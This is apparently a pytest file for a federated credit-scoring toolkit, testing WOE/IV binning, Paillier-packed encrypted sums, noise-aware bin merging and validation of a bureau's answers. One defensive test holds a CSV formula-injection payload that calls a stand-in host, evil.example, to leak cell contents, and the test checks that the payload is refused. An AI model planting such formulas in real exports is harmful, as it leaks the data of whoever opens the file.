"""Binning, WOE and IV: bins respect the minimum count, monotonic merging gives a monotonic
bad rate, and the numbers match a hand computation."""

from __future__ import annotations

import math

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from protocols import binning
from protocols import paillier as he
from protocols.errors import ProtocolViolation


def test_woe_and_iv_by_hand():
    stats = binning.BinStatistics(totals=[100, 100], bads=[10, 30])
    woe, iv = binning.woe_and_iv(stats)
    bad = np.array([10.5, 30.5]) / 41
    good = np.array([90.5, 70.5]) / 161
    expected = np.log(bad / good)
    assert woe == pytest.approx(expected.tolist())
    assert iv == pytest.approx(float(np.sum((bad - good) * expected)))
    assert binning.strength(iv) == "medium" if 0.1 <= iv < 0.3 else True
    assert binning.strength(0.01) == "not predictive"
    assert binning.strength(0.6).startswith("suspicious")


@settings(max_examples=60, deadline=None)
@given(cells=st.lists(st.tuples(st.integers(1, 500), st.floats(0, 1)), min_size=1, max_size=15))
def test_monotonic_merging_gives_a_monotonic_bad_rate(cells):
    totals = [t for t, _ in cells]
    bads = [int(t * r) for t, r in cells]
    stats = binning.BinStatistics(totals, bads)
    groups = binning.monotonic_groups(stats, None)
    assert sorted(b for g in groups for b in g) == list(range(len(totals)))
    for g in groups:  # adjacent bins only
        assert g == list(range(g[0], g[0] + len(g)))
    merged = binning.merge(stats, groups)
    rates = [b / t for b, t in zip(merged.bads, merged.totals, strict=True)]
    assert rates == sorted(rates) or rates == sorted(rates, reverse=True)


@settings(max_examples=40, deadline=None)
@given(
    values=st.lists(
        st.one_of(st.none(), st.floats(-1e6, 1e6, allow_nan=False)), min_size=1, max_size=400
    ),
    max_bins=st.integers(2, 12),
    min_count=st.integers(1, 60),
)
def test_numeric_bins_cover_every_row_and_respect_the_minimum(values, max_bins, min_count):
    column = pa.array(values, pa.float64())
    bins = binning.bin_column("v", column, max_bins, min_count)
    assert len(bins.index) == len(values)
    counts = np.bincount(bins.index, minlength=bins.count)
    assert counts.sum() == len(values) and np.all(counts > 0)
    if len(values) >= min_count:
        regular = [c for b, c in enumerate(counts) if b != bins.missing_bin]
        if len(regular) > 1:
            assert min(regular) >= min_count
    if bins.missing_bin is not None:
        missing = np.array([v is None for v in values])
        assert np.all(bins.index[missing] == bins.missing_bin)


def test_categories_and_flags_get_their_own_bins():
    industry = pa.array(["retail"] * 120 + ["tech"] * 80 + ["farm"] * 5 + [None] * 60)
    bins = binning.bin_column("industry", industry, 10, 50)
    assert bins.kind == "category" and not bins.ordered
    assert bins.labels == ["retail | farm", "tech", "missing"] or "farm" in " ".join(bins.labels)
    assert bins.missing_bin == bins.count - 1
    flag = pa.array([0] * 300 + [1] * 60, pa.int8())
    assert binning.bin_column("flag", flag, 10, 50).count == 2


def test_local_statistics_count_labels_per_bin():
    bins = binning.bin_column("x", pa.array(np.arange(200, dtype=np.float64)), 2, 10)
    labels = (np.arange(200) >= 150).astype(np.int64)
    stats = binning.local_statistics(bins, labels)
    assert stats.totals == [100, 100] and stats.bads == [0, 50]
    value = binning.evaluate_feature("x", "bank", "numeric", stats, True, None)
    assert value.iv > 0.5 and value.bins == 2 and math.isfinite(value.woe[0])


def test_packed_sums_round_trip_and_are_checked():
    pub, priv = he.generate_keypair(768, allow_test_keys=True)
    enc = he.OwnerEncryptor(priv)
    sums = [0, 1, 5000, 123, 8191]
    packed = he.pack_sums(enc.encrypt(sums), 14, he.PeerEncryptor(pub))
    assert he.unpack_sums(packed, priv, 14, len(sums)) == sums
    with pytest.raises(ProtocolViolation, match="larger than its slots"):
        he.unpack_sums(enc.encrypt([1 << 20]), priv, 14, 1)


def test_many_categories_are_capped_and_a_lone_small_bin_is_not_reported():
    many = pa.array([f"sector-{i % 60}" for i in range(6000)])
    bins = binning.bin_column("sector", many, 10, 30)
    assert bins.count == 10 and bins.labels[-1] == "(other levels)"
    lone = binning.bin_column("v", pa.array([1.0] * 3 + [None] * 200), 10, 30)
    assert lone.count == 1 and lone.missing_bin is None  # 3 rows never stand apart


def test_information_value_is_zero_without_both_classes():
    woe, iv = binning.woe_and_iv(binning.BinStatistics([900, 100], [0, 0]))
    assert iv == 0.0 and woe == [0.0, 0.0]


def test_the_smallest_bin_is_a_count_or_a_share_of_the_matched_rows():
    assert binning.min_bin_rows(1_600, 50, binning.DEFAULT_MIN_BIN_SHARE) == 50
    assert binning.min_bin_rows(30_000, 50, binning.DEFAULT_MIN_BIN_SHARE) == 600
    assert binning.min_bin_rows(30_001, 50, 0.02) == 601  # rounded up, never below the share
    assert binning.min_bin_rows(30_000, 50, 0.0) == 50
    with pytest.raises(ValueError):
        binning.min_bin_rows(100, 50, 0.6)
    from bank_node.toolkit import check_binning
    from protocols.errors import InputDataError

    for share in (-0.1, 0.5):  # at 0.5 a review read every IV as 0
        with pytest.raises(InputDataError, match="--min-bin-share must be from 0 to 0.25"):
            check_binning(10, 50, share)
    with pytest.raises(InputDataError, match="--min-bin-count must be at least 1"):
        check_binning(10, -5, 0.02)


def test_bin_labels_read_as_a_committee_reads_numbers():
    """A review's report showed [745720, 1.41092e+06): six significant digits lost the
    amount's last ones, and the open ends read [-inf, ...)."""
    from protocols.features import interval_labels, readable_number

    assert readable_number(1410920.0) == "1,410,920" and readable_number(-3.0) == "-3"
    assert readable_number(0.27) == "0.27" and readable_number(1234.5678912) == "1,234.5678912"
    assert readable_number(-0.5) == "-0.5" and readable_number(1e-7) == "0.0000001"
    assert interval_labels([745720.0, 1410920.0]) == [
        "< 745,720",
        "[745,720, 1,410,920)",
        ">= 1,410,920",
    ]
    assert interval_labels([]) == ["all values"]
    column = pa.array([0, 0, 1, 2, 2, 5] * 20, pa.int64())
    counted = binning.bin_column("逾期次数", column, 10, 1)
    assert counted.labels == ["< 1", "[1, 2)", "[2, 5)", ">= 5"]


def test_a_bureau_features_kind_is_numeric_or_category_never_free_text():
    """A hostile bureau answered a feature's kind with an Excel formula, and the bank wrote it
    into its IV table's CSV, where it ran when opened. Now any other kind is refused."""
    from bank_node.toolkit import _bureau_feature
    from xinrong.v1 import model_pb2

    pub, priv = he.generate_keypair(768, allow_test_keys=True)
    offset, bits = binning.NOISE_BOUND, binning.BinNoise(0.0625).slot_bits(200)
    counts = [10, 30, 90, 70]  # positives, then negatives
    encrypted = he.OwnerEncryptor(priv).encrypt([c + offset for c in counts])
    sums = he.pack_sums(encrypted, bits, he.PeerEncryptor(pub))
    feature = model_pb2.FeatureBins(
        name="insured_employees", kind="numeric", bins=2, ordered=True, missing_bin=-1,
        slot_bits=bits, sums=he.ciphertexts_to_bytes(sums, pub), noise_offset=offset,
    )  # fmt: skip
    assert _bureau_feature(feature, priv, pub, 200, 40, True).kind == "numeric"
    feature.kind = '=HYPERLINK("http://evil.example/?"&A1,"numeric")'
    with pytest.raises(ProtocolViolation, match="neither 'numeric' nor 'category'"):
        _bureau_feature(feature, priv, pub, 200, 40, True)


def test_a_bureau_answer_for_features_not_asked_or_with_an_odd_rho_is_refused():
    """A review's hostile bureau added 200 renamed copies of a 50-bin feature (162 s of the
    bank's CPU; an 8 MB answer holds about 5,000) and claimed a rho of 1e-24, whose sigma let
    counts of 2^39 through the range check. The answer is now checked as a whole first."""
    from bank_node.toolkit import _answer_noise
    from xinrong.v1 import model_pb2

    def answer(names, rho):
        features = [model_pb2.FeatureBins(name=n, kind="numeric", bins=2) for n in names]
        return model_pb2.BinnedLabelSums(features=features, rho_charged=rho)

    named = ["debt_ratio", "industry"]
    assert _answer_noise(answer(named, 0.125), named) == 4.0  # 0.0625 each: sigma 4
    assert _answer_noise(answer(["industry"], 0.125), named) == 4.0  # one withheld
    with pytest.raises(ProtocolViolation, match="not asked for: debt_ratio_2"):
        _answer_noise(answer([*named, "debt_ratio_2"], 0.1875), named)
    with pytest.raises(ProtocolViolation, match="twice"):
        _answer_noise(answer(["industry", "industry"], 0.125), named)
    for rho in (1e-24, 5e-324, 0.0, 2001.0, float("nan")):
        with pytest.raises(ProtocolViolation, match="per feature"):
            _answer_noise(answer(named, rho), named)


def test_too_few_defaults_for_the_noise_are_said_so_never_not_predictive():
    """A review's 8 defaults in 150 clients: every bureau feature merged into one bin to
    carry 5 sigmas of the noise, read IV 0, "not predictive", and the budget was charged.
    Such a request is now refused before the labels are sent; a feature merged whole in a
    request that goes on is "unmeasured"."""
    from bank_node.toolkit import UNMEASURED, _bureau_feature, _check_measurable
    from protocols.errors import InputDataError
    from xinrong.v1 import model_pb2

    noise = binning.BinNoise(0.0625)
    with pytest.raises(InputDataError, match="8 defaults and 142 non-defaults.*needs 40"):
        _check_measurable(8, 150, noise)
    with pytest.raises(InputDataError, match="Nothing was charged"):
        _check_measurable(145, 150, noise)  # 5 non-defaults
    _check_measurable(40, 80, noise)
    pub, priv = he.generate_keypair(768, allow_test_keys=True)
    offset, bits = binning.NOISE_BOUND, noise.slot_bits(200)

    def feature(counts):
        encrypted = he.OwnerEncryptor(priv).encrypt([c + offset for c in counts])
        sums = he.pack_sums(encrypted, bits, he.PeerEncryptor(pub))
        return model_pb2.FeatureBins(
            name="debt_ratio", kind="numeric", bins=2, ordered=True, missing_bin=-1,
            slot_bits=bits, sums=he.ciphertexts_to_bytes(sums, pub), noise_offset=offset,
        )  # fmt: skip

    few = _bureau_feature(feature([5, 3, 100, 92]), priv, pub, 200, 8, True, noise.sigma)
    assert few.bins == 1 and few.iv == 0 and few.strength == UNMEASURED
    many = _bureau_feature(feature([30, 60, 70, 40]), priv, pub, 200, 90, True, noise.sigma)
    assert many.bins == 2 and many.strength != UNMEASURED
    # merged whole by the bank's own minimum size (150 of 200 clients), not by the noise:
    # that is the setting's doing, and said as the IV band (a review's flag at 0.25)
    sized = _bureau_feature(feature([30, 60, 70, 40]), priv, pub, 200, 90, True, noise.sigma, 150)
    assert sized.bins == 1 and sized.strength == "not predictive"


def test_noisy_bins_are_merged_until_they_carry_more_than_the_noise():
    """A review's bank had 192 defaults in 2,282 clients: bins of about 10 defaults under
    the bureau's noise of sigma 4 were drawn to 0 and back, and one feature's IV read 0.23,
    0.26 and 0.77 in three requests. Merged to at least 5 sigmas of positives and negatives
    each (post-processing of what the bank received), requests agree better (a standard
    deviation of 0.09 against 0.14 over 200 draws, the worst 0.75 against 1.11 for a true
    0.42), and the bank says how far the noise moves each IV: what it cannot remove."""
    import random

    noise = binning.BinNoise(0.0625)  # the default: sigma 4
    rng = random.Random(7)  # the test's draws only: the bureau's noise comes from secrets
    totals = [230, 228, 228, 229, 228, 228, 227, 228, 228, 228]
    bads = [6, 8, 10, 12, 14, 17, 20, 24, 35, 46]  # 192 defaults, rising
    exact = binning.BinStatistics(totals, bads)
    truth = binning.evaluate_feature("x", "bureau", "numeric", exact, True, None).iv
    raw, merged, spreads = [], [], []
    goods = [t - b for t, b in zip(totals, bads, strict=True)]
    for _ in range(40):
        # what the bank receives: positives, then negatives, each with the bureau's noise
        z = noise.sample(len(totals), rng.randrange) + noise.sample(len(totals), rng.randrange)
        slots = [c + e for c, e in zip(bads + goods, z, strict=True)]
        got = binning.noisy_bins(slots, noise.offset, sum(bads), sum(totals), "x", noise.sigma)
        raw.append(binning.evaluate_feature("x", "bureau", "numeric", got, True, None).iv)
        stats, missing = binning.merge_for_noise(got, True, None, 5 * noise.sigma)
        assert min(min(b, t - b) for b, t in zip(stats.bads, stats.totals, strict=True)) >= 20
        merged.append(binning.evaluate_feature("x", "bureau", "numeric", stats, True, None).iv)
        spreads.append(binning.iv_spread(got, True, None, noise.sigma, True, 5 * noise.sigma))
    assert np.std(merged) < 0.8 * np.std(raw)
    assert max(abs(v - truth) for v in merged) < max(abs(v - truth) for v in raw)
    # the bank's estimate of the spread is of the spread it sees (drawn on the merged bins
    # instead, a review found it read half the real one)
    assert 0.75 < np.mean(spreads) / np.std(merged) < 1.5


def test_small_categories_and_a_small_missing_bin_are_merged_for_the_noise():
    stats = binning.BinStatistics([500, 400, 60, 50, 40], [60, 50, 4, 6, 3])
    merged, missing = binning.merge_for_noise(stats, False, 4, 20)
    assert missing is None and sum(merged.totals) == 1050 and sum(merged.bads) == 123
    assert all(min(b, t - b) >= 20 for b, t in zip(merged.bads, merged.totals, strict=True))
    kept, missing = binning.merge_for_noise(stats, False, None, 0)
    assert kept == stats and missing is None
    # one small category, wherever it stands, is merged too (a review's stayed, not last)
    one = binning.BinStatistics([100, 1000, 1000], [3, 200, 300])
    merged, _ = binning.merge_for_noise(one, False, None, 20)
    assert min(min(b, t - b) for b, t in zip(merged.bads, merged.totals, strict=True)) >= 20


numbers = st.lists(st.one_of(st.none(), st.integers(0, 30).map(float)), min_size=1, max_size=300)
levels = st.lists(st.one_of(st.none(), st.sampled_from("ABCDEFGHIJ")), min_size=1, max_size=300)


@settings(max_examples=60, deadline=None)
@given(
    values=st.one_of(numbers, levels),
    max_bins=st.integers(2, 12),
    min_count=st.integers(1, 40),
    data=st.data(),
)
def test_a_bin_rule_fitted_on_a_table_bins_any_of_its_rows_alike(values, max_bins, min_count, data):
    """The bureau fits its bins on its whole table and applies them to a session's rows: a
    row's bin is the same whichever rows are with it, the rule's bins are all there are,
    and over the rows it was fitted on each bin holds ``min_count`` of them (one bin aside).
    A review compared the rules with the former ``bin_column`` on 20,000 random columns:
    no difference."""
    column = pa.array(values)
    rule = binning.fit_bins("f", column, max_bins, min_count)
    whole = rule.apply(column)
    assert whole.labels == rule.labels and whole.missing_bin == rule.missing_bin
    sizes = np.bincount(whole.index, minlength=rule.count)
    assert rule.count == 1 or sizes.min() >= min_count  # small bins merged, over these rows
    assert set(whole.index.tolist()) <= set(range(rule.count))
    rows = data.draw(st.lists(st.integers(0, len(values) - 1), max_size=40))
    part = rule.apply(column.take(pa.array(rows, pa.int64())))
    assert part.index.tolist() == [int(whole.index[r]) for r in rows]
    assert part.labels == rule.labels  # the same bins, however few rows a session has


def test_an_unmeasured_feature_is_never_selected_by_iv(tmp_path):
    """``train --min-iv 0`` kept a feature the noise left unmeasured (IV 0 >= 0) while
    saying it had left it out (a review)."""
    import pyarrow.csv as pacsv

    from bank_node.toolkit import UNMEASURED, select_by_iv, unmeasured_features

    rows = [
        ("f_unm", "bureau", 0.0, UNMEASURED),
        ("f_ok", "bureau", 0.05, "weak"),
        ("f_zero", "bureau", 0.0, "not predictive"),
        ("own", "bank", 0.2, "medium"),
    ]
    path = tmp_path / "iv.csv"
    columns = ["feature", "party", "iv", "strength"]
    pacsv.write_csv(pa.table({c: [r[i] for r in rows] for i, c in enumerate(columns)}), path)
    assert select_by_iv(path, 0.0) == (["own"], ["f_ok", "f_zero"])
    assert select_by_iv(path, 0.02) == (["own"], ["f_ok"])
    assert unmeasured_features(path) == ["f_unm"]
